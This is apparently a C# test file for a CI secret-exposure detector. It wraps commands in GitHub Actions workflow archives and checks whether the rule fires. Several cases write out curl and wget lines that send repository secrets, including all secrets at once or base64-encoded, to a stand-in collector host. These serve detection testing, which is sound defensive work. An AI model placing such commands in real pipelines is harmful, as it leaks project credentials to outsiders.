using System.Text;
using Sluice.Findings;
using Sluice.Policies;
using Sluice.Tests.Support;

namespace Sluice.Tests.Detection;

public sealed class SecretExposureCases : DetectorCases
{
    private const string Rule = "pipeline/secret-exposure";

    public override IEnumerable<DetectorCase> All =>
    [
        Stopped("a registry's token to a stranger", "curl -s -d \"PYPI=${{ secrets.PYPI_API_TOKEN }}\" https://collector.example/in"),
        Stopped("several in one text", "curl -X POST -d 'AWS_KEY=${{ secrets.AWS_KEY }}&NPM=${{ secrets.NPM_TOKEN }}' https://collector.example"),
        Stopped("all of them", "curl --data-raw '${{ toJSON(secrets) }}' $ADDRESS"),
        Stopped("all of them in base64", "echo '${{ toJSON( secrets ) }}' | base64 | curl --data-binary @- https://collector.example"),
        Stopped("in an address", "wget -q \"https://collector.example/?t=${{ secrets.GITHUB_TOKEN }}\""),
        Stopped("by a variable", "curl -d \"$TOKEN\" \\\n            https://collector.example", "NPM_TOKEN"),
        Stopped("in a form", "curl -F\"t=${{ secrets['NPM_TOKEN'] }}\" https://collector.example"),
        new(Rule, "many to one", Fires: true, "a.zip", () => Workflow("curl -d 'a=${{ secrets.A }}&b=${{ secrets.B }}&c=${{ secrets.C }}' https://service.example", null)) { AtLeast = Severity.Medium, Decision = Decision.Allow },
        Passing("a service's own token", "curl -d token=${{ secrets.PUSHOVER_TOKEN }} -d user=${{ secrets.PUSHOVER_USER }} https://api.pushover.example/1/messages"),
        Passing("a header", "curl -H \"Authorization: Bearer ${{ secrets.NPM_TOKEN }}\" -d '{\"a\": 1}' https://api.example/a"),
        Passing("a user", "curl -u \"${{ secrets.GH_USER }}:${{ secrets.GH_TOKEN }}\" https://api.example/dispatches --data '{\"ref\": \"main\"}'"),
        Passing("an address that is a secret", "curl -X POST -d '{\"text\": \"released\"}' \"${{ secrets.SLACK_WEBHOOK }}\""),
        Passing("its owner", "curl -d \"token=${{ secrets.GITHUB_TOKEN }}\" https://api.github.example/a"),
        Passing("a login to one's own server", "curl -F user=${{ secrets.USER }} -F password=${{ secrets.PASSWORD }} https://deploy.example/login"),
        Passing("a variable of the step for another command", "npm publish && curl -d released=1 https://news.example", "NPM_TOKEN"),
        Passing("a comment", "# curl -d \"${{ secrets.NPM_TOKEN }}\" https://collector.example"),
    ];

    private static DetectorCase Stopped(string name, string command, string? variable = null) => new(Rule, name, Fires: true, "a.zip", () => Workflow(command, variable)) { AtLeast = Severity.High, Decision = Decision.Deny };

    private static DetectorCase Passing(string name, string command, string? variable = null) => new(Rule, name, Fires: false, "a.zip", () => Workflow(command, variable)) { Decision = Decision.Allow };

    private static byte[] Workflow(string command, string? variable) => TestArchive.Zip((".github/workflows/release.yml", Encoding.UTF8.GetBytes(
        $"name: Release\non: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Send\n{(variable is null ? "" : $"        env:\n          TOKEN: ${{{{ secrets.{variable} }}}}\n")}        run: |\n          {command}\n")));
}
